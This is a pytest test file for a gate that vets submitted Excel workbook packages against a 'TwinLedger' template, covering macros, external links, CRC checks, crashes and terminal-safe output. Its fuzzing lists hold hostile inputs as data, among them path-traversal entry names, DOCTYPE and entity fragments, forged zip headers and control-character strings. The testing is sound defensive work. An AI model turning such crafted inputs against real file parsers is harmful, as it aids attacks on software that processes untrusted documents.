def test_formulas_that_stay_inside_pass(text: str) -> None:
    assert check_package(formula(text)) == []


@pytest.mark.parametrize("target", ["file:///C:\\AddIns\\TwinLedger.xlam", "file:///home/a/TwinLedger.xlam", "TwinLedger-0.1.xlam", "C:/x/TwinLedger.xlam"])  # fmt: skip
def test_links_to_our_add_in_pass(target: str) -> None:
    assert check_package(linked(target, "[1]!TL_X(1)*2")) == []
    assert check_package(linked(target, "1+1")) == []


def test_a_link_of_another_name_passes_if_only_our_functions_use_it() -> None:
    assert check_package(linked("addin.xlam", "[1]!TL_X(1)+[1]!_xldudf_TL_Y(2)")) == []
    assert rules(linked("addin.xlam", "[1]!TL_X(1)+[1]!OTHER(2)")) == {"gate-external-link"}


def test_internal_hyperlinks_pass() -> None:
    assert check_package(related("hyperlink", "!#'台账'!A1")) == []
    assert (
        check_package(packed(clean(inside='<hyperlinks><hyperlink ref="A1" location="台账!A1"/></hyperlinks>'))) == []
    )


def test_printer_settings_and_pictures_pass() -> None:
    assert check_package(added("xl/printerSettings/printerSettings1.bin", b"\1\2")) == []
    assert check_package(added("xl/media/image1.png", b"\x89PNG\r\n\x1a\n")) == []


def test_utf_16_part_passes() -> None:
    assert check_package(added("xl/a.xml", '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16"))) == []


def test_unknown_function_that_excel_remembers_is_no_macro() -> None:
    name = b'<definedNames><definedName name="_xlfn.X" hidden="1" function="1">#NAME?</definedName></definedNames>'
    assert check_package(changed("xl/workbook.xml", b"</workbook>", name + b"</workbook>")) == []


def test_shown_text_cannot_steer_a_terminal() -> None:
    assert shown("a\x1b[31m\n\u202eb") == "a\\x1b[31m\\n\\u202eb"
    assert len(shown("x" * 10_000)) < 200


@pytest.mark.parametrize("path", TEMPLATES, ids=lambda p: p.stem)
def test_our_templates_pass_the_whole_gate(path: Path) -> None:
    before = hashlib.sha256(path.read_bytes()).hexdigest()
    assert admit(path) == []
    assert hashlib.sha256(path.read_bytes()).hexdigest() == before


def test_templates_exist() -> None:
    assert len(TEMPLATES) >= 4


def test_a_copy_saved_by_openpyxl_passes() -> None:
    written = io.BytesIO()
    openpyxl.load_workbook(TEMPLATES[-1]).save(written)
    assert admit(written.getvalue()) == []


def with_custom_part(path: Path) -> bytes:
    """Our workbook with a part that other programs put into it, as a document library of a company does."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    rels = "xl/_rels/workbook.xml.rels"
    row = f'<Relationship Id="rIdC" Type="{OFFICE}/customXml" Target="../customXml/item1.xml"/></Relationships>'
    parts[rels] = parts[rels].replace(b"</Relationships>", row.encode())
    item = b'<ds:datastoreItem xmlns:ds="%s/customXml" ds:itemID="{1D35C6B4-8F6C-4E19-9F0B-2B1B1B1B1B1B}"/>'
    properties = relationships(("rId1", "customXmlProps", "itemProps1.xml"))
    added = {
        "customXml/item1.xml": b'<a xmlns="urn:a"/>',
        "customXml/itemProps1.xml": item % OFFICE.rpartition("/")[0].encode(),
        "customXml/_rels/item1.xml.rels": properties,
    }
    return packed(parts | added)


@pytest.mark.libreoffice
def test_a_copy_saved_by_libreoffice_passes(tmp_path: Path) -> None:
    program = shutil.which("soffice")
    if program is None:
        pytest.skip("needs LibreOffice")
    submitted = tmp_path / TEMPLATES[-1].name
    submitted.write_bytes(with_custom_part(TEMPLATES[-1]))
    profile = f"-env:UserInstallation=file://{tmp_path / 'profile'}"
    command = [
        program,
        "--headless",
        profile,
        "--convert-to",
        "xlsx",
        "--outdir",
        str(tmp_path / "saved"),
        str(submitted),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    saved = tmp_path / "saved" / TEMPLATES[-1].name
    assert admit(saved) == []
    with zipfile.ZipFile(saved) as archive:
        assert b'"../customXml/item1.xml"' in archive.read("_rels/.rels")  # as LibreOffice has it: above the root


def test_a_workbook_that_is_not_ours_is_refused_by_the_child() -> None:
    assert check_package(packed(clean())) == []
    (finding,) = check_template(packed(clean()))
    assert finding.rule == "gate-template"
    assert "TwinLedger" in finding.sentence("en")


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no signals")
def test_a_child_killed_from_outside_is_no_refusal(monkeypatch: pytest.MonkeyPatch) -> None:
    kill_children(monkeypatch, [signal.SIGKILL, signal.SIGTERM])
    assert admit(TEMPLATES[0]) == []
    kill_children(monkeypatch, itertools.repeat(signal.SIGKILL))
    with pytest.raises(ChildLost):
        admit(TEMPLATES[0])


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no signals")
def test_a_child_that_crashes_twice_is_a_refusal(monkeypatch: pytest.MonkeyPatch) -> None:
    kill_children(monkeypatch, [signal.SIGSEGV, signal.SIGSEGV])
    (finding,) = admit(TEMPLATES[0])
    assert finding.rule == "gate-abort"
    assert "SIGSEGV" in finding.sentence("zh")
    assert "brings the calculation down" in finding.sentence("en")


def small_template() -> bytes:
    """A part of our template that is quick to check: the package without its large sheets' rows."""
    with zipfile.ZipFile(TEMPLATES[-1]) as archive:
        parts = {n: archive.read(n) for n in archive.namelist() if len(archive.read(n)) < 8_000}
    return packed(clean() | {n: c for n, c in parts.items() if n not in clean() and "rels" not in n})


SMALL = small_template()
NAMES = st.sampled_from(
    [
        *clean(),
        "../a",
        "/a",
        "a\\b",
        "C:a.xml",
        "A.XML",
        "a.xml",
        "xl/vbaProject.bin",
        "",
        "xl/media/a.png",
        "\0",
        "é/ǆ.xml",
    ]
)
PIECES = st.sampled_from(
    [b"<", b">", b"<!DOCTYPE a>", b"&a;", b"&#0;", b"|", b"[1]!", b"\0", b"PK\3\4", b"PK\1\2", b"PK\5\6", b"\xff\xfe",
     b'encoding="utf-16"', b"<f>'[1]a'!b</f>", b'Target="http://a"', b"<a>" * 300]
)  # fmt: skip


def unharmed(data: bytes, folder: Path) -> None:
    """What holds for every input: findings or none, nothing written, nothing changed."""
    path = folder / "submitted.xlsx"
    path.write_bytes(data)
    os.chmod(path, 0o444)
    found, from_path = check_package(data), check_package(path)
    assert isinstance(found, list)
    assert found == from_path
    assert all(f.rule in RULES and f.sentence("zh") and f.sentence("en").isprintable() for f in found)
    assert "gate-crash" not in {f.rule for f in found}
    assert path.read_bytes() == data
    assert os.listdir(folder) == ["submitted.xlsx"]
    os.chmod(path, 0o644)


fuzzing = settings(
    max_examples=300,
    derandomize=True,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)


@fuzzing
@given(
    st.lists(
        st.tuples(st.integers(0, len(SMALL) - 1), st.one_of(st.binary(max_size=6), PIECES)),
        min_size=1,
        max_size=6,
    )
)
def test_no_changed_bytes_break_the_gate(tmp_path: Path, edits: list[tuple[int, bytes]]) -> None:
    data = bytearray(SMALL)
    for at, piece in edits:
        data[at : at + len(piece)] = piece
    unharmed(bytes(data), tmp_path)


@fuzzing
@given(st.integers(0, 400), st.binary(min_size=1, max_size=4), st.integers(0, 2))
@example(0, b"\xff", 0)
def test_no_changed_directory_breaks_the_gate(tmp_path: Path, at: int, piece: bytes, cut: int) -> None:
    """Most of a package is compressed data; here the directory and the headers are hit."""
    data = bytearray(packed(clean()))
    start = data.index(b"PK\x01\x02") + at % 300
    data[start : start + len(piece)] = piece
    unharmed(bytes(data[: len(data) - cut]), tmp_path)


@fuzzing
@given(
    st.lists(
        st.tuples(NAMES, st.integers(0, 400), st.one_of(st.binary(max_size=8), PIECES), st.booleans()),
        min_size=1,
        max_size=4,
    )
)
def test_no_changed_entries_break_the_gate(tmp_path: Path, edits: list[tuple[str, int, bytes, bool]]) -> None:
    parts = clean()
    for name, at, piece, drop in edits:
        content = parts.get(name, b"<a/>")
        if drop and len(parts) > 1:
            parts.pop(name, None)
        else:
            parts[name] = content[:at] + piece + content[at:]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        unharmed(packed(parts), tmp_path)


@fuzzing
@given(st.text(alphabet="A1!|[]'\"#().\\/$:,TL_xlamHYPERLINK ", max_size=60))
def test_no_formula_breaks_the_gate(text: str) -> None:
    for found in leaving(text):
        assert found.rule in RULES


@fuzzing
@given(st.binary(max_size=200))
def test_no_bytes_break_the_gate(tmp_path: Path, data: bytes) -> None:
    unharmed(data, tmp_path)
    unharmed(b"PK\x03\x04" + data, tmp_path)


@pytest.mark.parametrize("seed", range(6))
def test_no_changed_sheet_breaks_the_child(seed: int) -> None:
    """What passes the package's check, however garbled, gets an answer from the child."""
    chance = random.Random(seed)
    with zipfile.ZipFile(TEMPLATES[0]) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name in ("xl/workbook.xml", SHEET, "xl/sharedStrings.xml"):
        content = bytearray(parts[name])
        for _ in range(chance.randrange(1, 6)):
            at = chance.randrange(len(content) - 12)
            content[at : at + 1] = chance.choice([b"0", b"9", b"A", b"-", b" "])
        parts[name] = bytes(content)
    assert all(finding.rule in RULES for finding in admit(packed(parts)) + check_template(packed(parts)))


def test_a_flaw_of_the_gate_itself_is_a_refusal(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object) -> None:
        raise ZeroDivisionError

    monkeypatch.setattr(gate, "_check", fail)
    assert rules(b"PK") == {"gate-crash"}


def test_checking_the_example_is_quick() -> None:
    path = next(p for p in TEMPLATES if "example_zh" in p.stem)
    best = min(_seconds(lambda: check_package(path)) for _ in range(3))
    assert best < 0.6, best  # processor time: other work on the machine does not count


def _seconds(action: Callable[[], object]) -> float:
    begin = time.process_time()
    action()
    return time.process_time() - begin


def test_crc_is_checked() -> None:
    data = packed(clean())
    crc = struct.pack("<L", zlib.crc32(clean()[SHEET]))
    assert data.count(crc) == 2
    assert rules(data.replace(crc, b"\1\2\3\4")) == {"gate-false-size"}


def as_excel_saves(path: Path) -> bytes:
    """Our example with every add-in function behind a link, as Excel stores it."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name in parts:
        if name.startswith("xl/worksheets/sheet"):
            parts[name] = re.sub(rb"\bTL_[A-Z0-9_]+\(", rb"[1]!\g<0>", parts[name])
    link = "xl/externalLinks/externalLink1.xml"
    with zipfile.ZipFile(io.BytesIO(linked("file:///C:\\AddIns\\TwinLedger.xlam", "1"))) as archive:
        for name in (link, "xl/externalLinks/_rels/externalLink1.xml.rels"):
            parts[name] = archive.read(name)
    reference = (
        f'<externalReferences><externalReference xmlns:r="{OFFICE}" r:id="rIdL"/></externalReferences><definedNames>'
    )
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"<definedNames>", reference.encode())
    rels = "xl/_rels/workbook.xml.rels"
    row = f'<Relationship Id="rIdL" Type="{OFFICE}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>'
    parts[rels] = parts[rels].replace(b"</Relationships>", row.encode())
    return packed(parts)


def test_our_example_as_excel_stores_it_passes_quickly() -> None:
    data = as_excel_saves(next(p for p in TEMPLATES if "example_zh" in p.stem))
    assert admit(data) == []
    assert min(_seconds(lambda: check_package(data)) for _ in range(3)) < 0.6


def test_formulas_that_have_to_be_taken_apart_are_limited(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(gate, "MOST_EXAMINED", 10)
    assert rules(formula("SUM(Table1[a],Table1[b])")) == {"gate-formula-length"}
